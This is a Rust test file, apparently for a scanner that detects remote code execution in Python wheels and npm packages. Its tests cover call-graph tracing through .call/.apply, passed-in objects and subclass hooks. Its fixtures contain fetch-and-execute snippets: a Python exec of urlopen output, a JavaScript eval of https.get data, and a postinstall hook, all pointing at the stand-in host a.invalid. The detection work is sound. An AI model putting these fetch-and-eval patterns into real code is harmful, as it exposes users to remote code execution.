//! What callers hand in, and objects of classes below another.

use crate::flow::testing::{remote_code, script, wheel};
use crate::unpack::{Entry, text_file as file};
use customs_model::Zone;

fn runs(entries: Vec<Entry>) -> bool {
    remote_code(entries) > Some(Zone::Command)
}

fn python(code: &str) -> bool {
    let go = "\
import urllib.request
def go(*more):
    exec(urllib.request.urlopen('https://a.invalid/b').read())
";
    runs(wheel(&format!("{go}{code}")))
}

fn javascript(code: &str) -> bool {
    let go = "const go = () => require('https').get('https://a.invalid/b', (r) => {
        let d = ''; r.on('data', (c) => d += c); r.on('end', () => eval(d)) });";
    runs(script(&format!("{go}\n{code}")))
}

#[test]
fn a_function_that_is_called_by_a_method_of_functions_is_called() {
    for call in [
        "go.call()",
        "go.apply(null, [1])",
        "(function () { go() }).call(this)",
        "(function () { go() }).apply(this, arguments)",
        "const o = { f() { go() } }; o.f.call(o)",
    ] {
        assert!(javascript(call), "{call}");
    }
    for quiet in [
        "go.call",
        "go.bind(null)",
        "(function () { go }).call(this)",
        "const o = { call() {} , go }; o.call()",
    ] {
        assert!(!javascript(quiet), "{quiet}");
    }
}

#[test]
fn what_is_called_by_a_method_of_functions_gets_what_stands_behind_this() {
    let get = "require('https').get('https://a.invalid/b', (r) => r.on('data', (c) => CALL))";
    for (call, found) in [
        ("f.call(null, c)", true),
        ("f.apply(null, [c])", true),
        ("f.call(c, '1')", false),
        ("f.call(null, '1', c)", false),
        ("f.apply(null, ['1', c])", false),
    ] {
        let get = get.replace("CALL", call);
        let code = format!("function f(a) {{ eval(a) }}\n{get}");
        let package = vec![
            file(
                "package.json",
                r#"{"name": "a", "version": "1.0.0", "scripts": {"postinstall": "node i.js"}}"#,
            ),
            file("i.js", &code),
        ];
        assert_eq!(runs(package), found, "{call}");
    }
}

#[test]
fn the_method_of_what_a_caller_hands_in_is_entered() {
    let class = "class A { run() { go() } }\n";
    let start = "function start(x) { x.run() }\n";
    for call in [
        "start(new A)",
        "const a = new A(); start(a)",
        "const again = (x) => start(x); again(new A)",
        "setTimeout(() => start(new A), 1)",
        "start.call(null, new A)",
    ] {
        assert!(javascript(&format!("{class}{start}{call}")), "{call}");
    }
    assert!(javascript("const o = { f() { go() } }; (o => o.f())(o)"));
    let field = "class B { constructor(a) { this.a = a } go() { this.a.run() } }\n";
    assert!(javascript(&format!("{class}{field}new B(new A).go()")));
    for quiet in [
        format!("{class}{start}start({{ run() {{}} }})"),
        format!("{class}{start}new A()"),
        format!("{class}{start}start(); start(1)"),
        format!("{class}class C {{ run() {{}} }}\n{start}new A; start(new C)"),
        format!("{class}{start}exports.f = () => start(new A)"),
        format!(
            "{class}{start}class C {{ run() {{}} }}\nstart(new C); exports.f = () => start(new A)"
        ),
        format!("{class}{field}new B(new A)"),
        "const o = { f() { go() }, g() {} }; (o => o.g())(o)".to_owned(),
    ] {
        assert!(!javascript(&quiet), "{quiet}");
    }
}

#[test]
fn the_method_of_what_a_caller_of_python_hands_in_is_entered() {
    let class = "class C:\n    def step(self):\n        go()\n";
    let run = "def run(o):\n    o.step()\n";
    let field = "\
class A:
    def __init__(self, s):
        self.s = s
    def run(self):
        self.s.step()
";
    for call in ["run(C())", "run(o=C())", "c = C()\nrun(c)"] {
        assert!(python(&format!("{class}{run}{call}\n")), "{call}");
    }
    for call in ["A(C()).run()", "A(s=C()).run()"] {
        assert!(python(&format!("{class}{field}{call}\n")), "{call}");
    }
    let calm = "class D:\n    def step(self):\n        pass\n";
    for quiet in [
        format!("{class}{run}C()\n"),
        format!("{class}{calm}{run}run(D())\nC()\n"),
        format!("{class}{field}A(C())\n"),
        format!("{class}{calm}{run}run(D())\ndef f():\n    run(C())\n"),
    ] {
        assert!(!python(&quiet), "{quiet}");
    }
}

#[test]
fn a_class_above_calls_the_methods_of_those_below_it_that_are_made() {
    let template = "class T { exec() { this.main() } main() {} }\n";
    let own = "class U extends T { main() { go() } }\n";
    for call in [
        "new U().exec()",
        "const u = new U(); u.exec()",
        "class V extends U {}\nnew V().exec()",
    ] {
        assert!(javascript(&format!("{template}{own}{call}")), "{call}");
    }
    for quiet in ["new U()", "new T().exec()", "exports.U = U"] {
        assert!(!javascript(&format!("{template}{own}{quiet}")), "{quiet}");
    }
    let template = "class B:\n    def run(self):\n        self.hook()\n";
    let own = "class C(B):\n    def hook(self):\n        go()\n";
    assert!(python(&format!("{template}{own}C().run()\n")));
    assert!(!python(&format!("{template}{own}C()\n")));
    assert!(!python(&format!("{template}{own}B().run()\n")));
    let at_once = "class B:\n    def __init__(self):\n        self.hook()\n";
    assert!(python(&format!("{at_once}{own}C()\n")));
    assert!(!python(&format!("{at_once}{own}B()\n")));
}
